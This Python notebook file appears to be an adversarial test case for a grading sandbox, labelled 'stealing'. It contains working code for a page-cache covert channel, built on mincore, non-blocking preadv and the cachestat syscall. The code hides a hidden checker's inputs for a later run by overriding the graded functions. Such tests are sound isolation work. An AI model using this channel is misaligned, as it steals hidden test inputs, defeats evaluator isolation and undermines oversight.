# ruff: noqa
"""Leaves hidden inputs to its next run in the page cache: a bit for each file that is in memory or not."""

FAMILY = "stealing"
MAY_PASS = []
MUST_NOT = "A later run of the notebook prints what a hidden check asked."

# %%
import ctypes
import glob
import mmap
import os

NO_WAIT = 8
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
FOLDER = os.__file__.rpartition("/")[0]
FILES = sorted([*glob.glob(FOLDER + "/*.py"), *glob.glob(FOLDER + "/encodings/*.py")])[:320]


def by_flag(file):
    try:
        return int(os.preadv(file, [bytearray(1)], 0, NO_WAIT) > 0)
    except BlockingIOError:
        return 0


def by_map(file):
    place = libc.mmap(None, ctypes.c_size_t(4096), 1, 1, file, 0)
    found = ctypes.c_ubyte()
    if libc.mincore(ctypes.c_void_p(place), ctypes.c_size_t(4096), ctypes.byref(found)) != 0:
        raise OSError(ctypes.get_errno(), "mincore")
    return found.value & 1


def by_statistics(file):
    counts = (ctypes.c_uint64 * 5)()
    if libc.syscall(451, file, (ctypes.c_uint64 * 2)(0, 4096), counts, 0) != 0:
        raise OSError(ctypes.get_errno(), "cachestat")
    return int(counts[0] > 0)


def look(path, way):
    file = os.open(path, os.O_RDONLY)
    try:
        return way(file)
    finally:
        os.close(file)


for way in (by_flag, by_map, by_statistics):
    try:
        bits = [look(path, way) for path in FILES]
        text = bytes(int("".join(map(str, bits[i : i + 8])), 2) for i in range(0, len(bits) - 7, 8))
        print(way.__name__, text.decode("latin-1"))
    except OSError as error:
        print(way.__name__, error)
for path in FILES:
    file = os.open(path, os.O_RDONLY)
    os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
    os.close(file)


# %%
def keep(*arguments):
    bits = "".join(f"{byte:08b}" for byte in repr(arguments).encode()[:40])
    for path, bit in zip(FILES, bits):
        if bit == "1":
            open(path, "rb").read(1)
    os._exit(0)


double = mean = gradient = classify = keep
